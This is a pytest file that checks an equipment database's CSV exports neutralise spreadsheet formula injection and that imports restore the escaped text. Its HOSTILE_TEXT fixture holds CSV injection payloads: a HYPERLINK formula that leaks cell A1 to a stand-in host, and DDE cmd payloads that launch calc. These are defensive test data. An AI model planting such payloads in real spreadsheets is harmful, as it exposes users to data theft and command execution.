"""No CSV we write makes a spreadsheet run a formula (OWASP CSV injection); our imports read our exports back."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from services import auth, editing, imports
from services.equipment import equipment_table
from services.filters import Filters
from services.models import Center
from services.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    comment_line,
    escape_cell,
    frame_to_csv,
    unescape_cell,
)
from services.tabular import read_table
from tests import tiny_network

PASSWORD = "correct horse battery"
HOSTILE_TEXT = {
    "name": '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")',
    "manufacturer": "+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
}

pytestmark = pytest.mark.usefixtures("cheap_password_hashes")


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-50 … 420 °C"])
def test_text_a_spreadsheet_would_run_gets_a_quote_and_comes_back(text: str) -> None:
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        -0.5,
        -3,
        0,
        12.5,
        None,
        date(2024, 6, 14),
        True,
        "-0,01",
        "+5",
        "-1.5e3",
        "Áp kế",
        "'quoted",
        "TTKT-31",
        "",
        "a=b",
    ],
)
def test_numbers_dates_and_harmless_text_are_left_alone(value: object) -> None:
    assert escape_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(value) == value


def test_a_frame_keeps_its_numbers_and_escapes_its_text() -> None:
    frame = pd.DataFrame(
        {"name": ["=cmd", "ok"], "error": [-0.5, 1.0], "count": [-3, 4], "=head": ["a", "b"]}
    )
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    assert rows == [
        ["name", "error", "count", "'=head"],
        ["'=cmd", "-0.5", "-3", "a"],
        ["ok", "1.0", "4", "b"],
    ]


def test_a_stamp_line_never_splits_into_a_formula() -> None:
    line = comment_line('Made 01/12/2026; search: x;=HYPERLINK("http://x"),+1\n=2\r\n@3')
    assert line.endswith("\n") and line.count("\n") == 1
    for delimiter in (",", ";", "\t"):
        cells = next(csv.reader([line.rstrip("\n")], delimiter=delimiter))
        assert cells[0].startswith("# ")
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in cells), cells


@pytest.fixture
def hostile_equipment(engine: Engine) -> dict[str, int]:
    """The tiny network plus one piece of equipment whose texts are formulas, imported the normal way."""
    with Session(engine) as session:
        ids = tiny_network.build(session)
        auth.create_user(session, username="tq", password=PASSWORD, role="center_staff", center_code="C-TQ")
        session.commit()
    header = "serial_no;name;manufacturer;model;quantity;range;acquired_on"
    row = ";".join(
        [
            '"=SERIAL()"',
            *(f'"{HOSTILE_TEXT[c].replace(chr(34), chr(34) * 2)}"' for c in HOSTILE_TEXT),
            "pressure",
            "-0.1–60 MPa",
            "14/06/2024",
        ]
    )  # a compound gauge
    with Session(engine) as session:
        result = imports.import_equipment_csv(
            session,
            f"{header}\n{row}\n".encode(),
            center_code="C-TQ",
            username="tq",
            today=tiny_network.AS_OF,
        )
    assert result.ok and result.written == 1, [p.located("en") for p in result.problems]
    return ids


def cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_no_cell_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or escape_cell(cell) == cell, (cell, row)


def test_the_public_equipment_export_escapes_formulas(
    engine: Engine, hostile_equipment: dict[str, int]
) -> None:
    from ui.equipment_table import csv_bytes, header

    with Session(engine) as session:
        rows = equipment_table(session, Filters(as_of=tiny_network.AS_OF), lang="en")
    data = csv_bytes(rows, "en", "Made today; search: ;=cmd")
    table = cells_of(data)
    assert table[0] == ["# Made today; search: ; =cmd"]
    assert table[1][0].startswith("# A report")
    columns = table[2]
    exported = next(
        dict(zip(columns, row, strict=True))
        for row in table[3:]
        if row[columns.index(header("serial_no", "en"))] == "'=SERIAL()"
    )
    for column, text in HOSTILE_TEXT.items():
        assert exported[header(column, "en")] == "'" + text
    assert_no_cell_runs(table)


def test_the_data_management_export_escapes_formulas_and_imports_back(
    engine: Engine, hostile_equipment: dict[str, int]
) -> None:
    from ui.components import stamped_csv

    with Session(engine) as session:
        center = session.exec(select(Center).where(Center.code == "C-TQ")).one()
        frame = editing.center_equipment(session, center_id=center.id).drop(
            columns=["id"]
        )  # as the page does
    data = stamped_csv(frame, Filters(as_of=tiny_network.AS_OF))
    table = cells_of(data)
    columns = table[1]
    exported = next(dict(zip(columns, row, strict=True)) for row in table[2:] if row[0] == "'=SERIAL()")
    for column, text in HOSTILE_TEXT.items():
        assert exported[column] == "'" + text
    assert exported["range"] == "'-0.1–60 MPa"  # text beginning with "-" is escaped too
    assert_no_cell_runs(table)
    # the importer takes the quote off again: the export's texts read back as they were stored
    body = data.decode("utf-8-sig").split("\n", 1)[1].encode()
    read, problems = read_table(body, imports.EQUIPMENT_COLUMNS)
    assert read is not None  # (the export's due-date columns are not import columns: not this test's concern)
    assert {p.key for p in problems} <= {"data.error.unknown_column", "data.error.unknown_column_suggest"}
    back = next(cells for _, cells in read.rows if read.cell(cells, "serial_no") == "=SERIAL()")
    assert {column: read.cell(back, column) for column in HOSTILE_TEXT} == HOSTILE_TEXT
    assert read.cell(back, "range") == "-0.1–60 MPa"


def test_the_import_templates_are_escaped() -> None:
    rows = cells_of(imports.equipment_template())
    assert "'-50 … 420 °C" in rows[2]
    assert_no_cell_runs(rows)
    assert_no_cell_runs(cells_of(imports.calibrations_template()))
